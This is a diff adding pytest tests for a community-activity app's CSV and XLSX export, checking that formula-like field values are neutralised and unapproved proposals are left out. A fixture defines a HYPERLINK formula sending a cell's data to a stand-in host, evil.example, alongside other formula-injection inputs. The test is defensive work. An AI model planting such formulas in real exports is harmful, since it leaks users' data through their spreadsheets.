@@ -86,3 +86,63 @@ def test_export_in_english_to_a_folder(
 def test_export_to_a_missing_folder_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["activities", "export", "--folder", "nowhere"]) == 1
     assert capsys.readouterr().err.startswith("ファイル nowhere/地域の活動.csv に書き込めません")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")'
+
+
+async def _formulas(url: str) -> None:
+    """An unapproved proposal made of formulas, and approved activities whose words start
+    like formulas (an organiser may edit them after the review)."""
+    engine = create_engine(url)
+    try:
+        async with session_factory(engine)() as session, session.begin():
+            east, _ = await get_or_create_area(session, "こもれび市", "みどり地区")
+            organiser = await ensure_person(session, 1)
+            session.add_all([
+                Activity(name=EVIL, kind=ActivityKind.SALON, district_id=east.id,
+                         place="+SUM(1,2)", contact="@SUM(1+1)", organiser_id=organiser.id,
+                         meanings=[], status=ActivityStatus.PROPOSED),
+                Activity(name="=1+2 体操", kind=ActivityKind.EXERCISE, district_id=east.id,
+                         place="-1+2", contact="@SUM(1+1) 012-345-6789",
+                         organiser_id=organiser.id, meanings=[], status=ActivityStatus.ACTIVE),
+                Activity(name="\t=1+1 お茶会", kind=ActivityKind.SALON, district_id=east.id,
+                         place="\r=1+1", contact="+81 90-0000-0000", organiser_id=organiser.id,
+                         meanings=[], status=ActivityStatus.PAUSED),
+            ])
+    finally:
+        await engine.dispose()
+
+
+def test_export_keeps_text_as_text_and_leaves_out_proposals(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    assert main(["db", "upgrade"]) == 0
+    asyncio.run(_formulas(f"sqlite+aiosqlite:///{tmp_path / 'otagai.db'}"))
+    assert main(["activities", "export"]) == 0
+    assert "2件の活動を書き出しました" in capsys.readouterr().out
+
+    raw = (tmp_path / "地域の活動.csv").read_bytes().decode("utf-8-sig")
+    assert "evil.example" not in raw
+    assert "SUM(1,2)" not in raw
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert len(rows) == 3
+    by_name = {r[1]: r for r in rows[1:]}
+    assert set(by_name) == {"'=1+2 体操", "'\t=1+1 お茶会"}
+    exercise, tea = by_name["'=1+2 体操"], by_name["'\t=1+1 お茶会"]
+    assert (exercise[4], exercise[8]) == ("'-1+2", "'@SUM(1+1) 012-345-6789")
+    assert (tea[4], tea[8]) == ("'\r=1+1", "'+81 90-0000-0000")
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+    sheet = load_workbook(tmp_path / "地域の活動.xlsx").active
+    assert sheet is not None
+    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "evil.example" not in str([c.value for c in cells])
+    names = {sheet.cell(row=r, column=2).value: r for r in range(2, sheet.max_row + 1)}
+    assert set(names) == {"=1+2 体操", "\t=1+1 お茶会"}
+    row = names["=1+2 体操"]
+    for column, value in ((2, "=1+2 体操"), (5, "-1+2"), (9, "@SUM(1+1) 012-345-6789")):
+        cell = sheet.cell(row=row, column=column)
+        assert (cell.value, cell.data_type) == (value, "s")
